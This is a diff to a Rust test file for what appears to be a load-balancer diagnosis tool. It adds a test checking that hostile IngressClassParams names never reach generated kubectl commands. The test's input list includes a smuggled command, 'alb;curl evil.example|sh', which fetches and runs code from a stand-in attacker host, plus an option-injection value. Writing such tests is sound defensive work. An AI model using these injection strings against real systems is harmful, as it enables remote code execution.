@@ -14,7 +14,7 @@ use elbmedic_engine::scenarios::SCENARIOS;
 use elbmedic_engine::shell::{split_for_test, Script, Word};
 use elbmedic_engine::snapshot::Snapshot;
 use proptest::prelude::*;
-use serde_json::Value;
+use serde_json::{json, Value};
 
 /// What an attacker writes into a tag, a description, an alarm reason or a dimension.
 const PAYLOADS: &[&str] = &[
@@ -596,6 +596,45 @@ fn every_kubectl_line_names_its_namespace_and_object() {
             positional.len() >= needed,
             "no object: {text} ({positional:?})"
         );
+    }
+}
+
+/// A replayed snapshot whose IngressClassParams' name is an option (or not a name at all):
+/// the durable fix names where to change the idle timeout, but no command is built from it.
+#[test]
+fn an_ingress_class_params_name_never_becomes_a_command_word() {
+    let s = elbmedic_engine::scenarios::find("eks-idle-timeout-class-params").unwrap();
+    let (alarm, lb) = diagnose_intake(s.event.as_bytes()).unwrap();
+    for hostile in [
+        "--server=https://evil.example",
+        "-n",
+        "alb;curl evil.example|sh",
+        "ALB_Upper",
+    ] {
+        let mut world: Value = serde_json::from_str(s.snapshot).unwrap();
+        world["kubernetes"]["ingress_classes"][0]["params"] = json!(hostile);
+        world["kubernetes"]["ingress_class_params"][0]["name"] = json!(hostile);
+        let world: Snapshot = serde_json::from_value(world).unwrap();
+        let report = Report::diagnosed(&alarm, &lb, &world);
+        check(&report).unwrap_or_else(|e| panic!("{hostile}: {e}"));
+        let durable = report.findings[0].fix.durable.as_ref().unwrap();
+        assert!(
+            durable.description.contains("IngressClassParams"),
+            "{hostile}: the params are still named as where the value lives: {}",
+            durable.description
+        );
+        assert!(
+            durable.command.is_none(),
+            "{hostile}: {:?}",
+            durable.command
+        );
+        for script in scripts(&report) {
+            assert!(
+                !script.as_str().contains(hostile),
+                "{hostile} reached a command: {}",
+                script.as_str()
+            );
+        }
     }
 }
 
